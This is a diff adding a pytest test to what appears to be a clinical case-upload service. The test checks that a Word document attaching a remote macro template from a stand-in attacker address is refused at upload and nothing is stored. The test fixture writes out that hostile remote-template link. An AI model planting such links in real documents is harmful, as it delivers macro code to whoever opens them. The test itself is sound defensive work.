@@ -223,3 +223,23 @@ def test_a_fhir_json_that_repeats_a_key_is_refused_at_upload_naming_it(
     )
     assert services.list_cases() == []
     assert harness.stored_keys() == set()
+
+
+def test_a_docx_with_a_remote_template_is_refused_at_upload_in_the_child(
+    harness: LocalHarness, signed_in: SignedIn
+) -> None:
+    """left16: a DOCX whose settings attach a template from another address (Word fetches
+    it on opening, macros and all) is refused when the header check reads it, in a child."""
+    from core.docx_parts import EXTERNAL
+
+    content = samples.docx_with_parts(
+        added=samples.docx_settings_linking("attachedTemplate", "https://attacker.example/t.dotm")
+    )
+    services = case_service(
+        signed_in.doctor, signed_in.backend, reading=IsolatedReading(ReadingLimits(seconds=60))
+    )
+    with pytest.raises(InvalidInput) as refused:
+        services.create_case(FORM, [Upload("report.docx", content, "lab")])
+    assert refused.value.detail == f"'report.docx' is not a valid Word document: {EXTERNAL}"
+    assert services.list_cases() == []
+    assert harness.stored_keys() == set()
